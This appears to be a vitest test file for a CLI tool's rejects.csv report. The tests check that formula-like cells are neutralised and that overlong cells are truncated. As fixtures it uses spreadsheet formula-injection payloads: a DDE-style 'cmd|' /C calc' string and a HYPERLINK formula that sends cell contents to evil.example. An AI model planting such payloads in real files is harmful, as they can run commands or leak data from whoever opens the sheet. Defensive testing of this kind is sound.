// rejects.csv is opened in Excel or Numbers by the merchant, and its cells come from the export: a cell
// that a spreadsheet would run as a formula (=, +, -, @, tab, CR first) gets a leading ', a cell longer
// than 1,000 characters is cut with a marker, and the file still reads back, cell for cell, with file,
// line and column to find the row by.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { createRejectsLog, MAX_CELL_LENGTH } from '../../src/report/rejects.ts';
import { runCli } from '../fixtures/cli.ts';
import { tempDir, writeFiles } from '../fixtures/temp.ts';

type Row = Record<'file' | 'line' | 'column' | 'reason' | 'contact_id' | 'value', string>;

const readRejects = (path: string): Row[] => parse(readFileSync(path, 'utf8'), { columns: true }) as Row[];

describe('rejects.csv', () => {
  it('neutralises every cell a spreadsheet would read as a formula, in every column', async () => {
    const dir = tempDir();
    const path = join(dir, 'rejects.csv');
    const log = createRejectsLog(path);
    const starts = ['=', '+', '-', '@', '\t', '\r'];
    for (const [index, start] of starts.entries()) {
      log.add({ file: `${start}members.csv`, line: index + 2, column: `${start}tier`, reason: `${start}cmd|' /C calc'!A0`, contactId: `${start}SUM(1+1)`, value: `${start}HYPERLINK("x")` });
    }
    log.add({ file: 'members.csv', line: 9, column: 'tier', reason: 'expected bronze, silver or gold, got "x-1"', contactId: 'M-1' });
    await log.close();

    const rows = readRejects(path);
    for (const [index, start] of starts.entries()) {
      expect(rows[index]).toEqual({ file: `'${start}members.csv`, line: String(index + 2), column: `'${start}tier`, reason: `'${start}cmd|' /C calc'!A0`, contact_id: `'${start}SUM(1+1)`, value: `'${start}HYPERLINK("x")` });
    }
    // Cells that do not start like a formula are left as they are.
    expect(rows[6]).toEqual({ file: 'members.csv', line: '9', column: 'tier', reason: 'expected bronze, silver or gold, got "x-1"', contact_id: 'M-1', value: '' });
  });

  it('cuts a cell over 1,000 characters with a marker saying how long it was', async () => {
    const dir = tempDir();
    const path = join(dir, 'rejects.csv');
    const log = createRejectsLog(path);
    log.add({ file: 'members.csv', line: 2, column: 'contact_id', reason: `expected an id, got "${'y'.repeat(1500)}"`, contactId: 'x'.repeat(5000) });
    await log.close();

    const [row] = readRejects(path);
    expect(row!.contact_id).toBe(`${'x'.repeat(MAX_CELL_LENGTH)}… [cut: 5000 characters]`);
    expect(row!.reason.startsWith(`expected an id, got "${'y'.repeat(100)}`)).toBe(true);
    expect(row!.reason).toMatch(/… \[cut: 1522 characters\]$/);
    expect(row!.line).toBe('2');
  });

  it('written by a real run: formula-like and overlong contact ids are neutralised and cut; file, line and column stay', async () => {
    const dir = tempDir();
    const exportDir = tempDir();
    const long = `L${'0'.repeat(4999)}`;
    writeFiles(exportDir, {
      'members.csv': [
        'contact_id,phone_number,bonus_points',
        'M-1,+4741234567,10',
        '"=HYPERLINK(""http://evil.example/?""&A1,""open"")",not a phone,10',
        '@SUM(1+1),+4741234568,many',
        '-2+3,+4741234569,ten',
        `${long},+4741234570,10`,
        '',
      ].join('\n'),
    });
    const result = await runCli(['run', '--source', exportDir, '--state', join(dir, 's.sqlite'), '--report-dir', join(dir, 'reports'), '--dry-run']);
    expect(result.code, result.stderr).toBe(0);

    const report = JSON.parse(readFileSync(join(dir, 'reports', 'latest.json'), 'utf8'));
    const rows = readRejects(join(dir, 'reports', report.runId, 'rejects.csv'));
    expect(rows.map((row) => [row.file, row.line, row.column])).toEqual([
      ['members.csv', '3', 'phone_number'],
      ['members.csv', '4', 'bonus_points'],
      ['members.csv', '5', 'bonus_points'],
      ['members.csv', '6', 'contact_id'],
    ]);
    expect(rows.map((row) => row.contact_id)).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"open")`,
      "'@SUM(1+1)",
      "'-2+3",
      `${long.slice(0, MAX_CELL_LENGTH)}… [cut: 5000 characters]`,
    ]);
  });
});
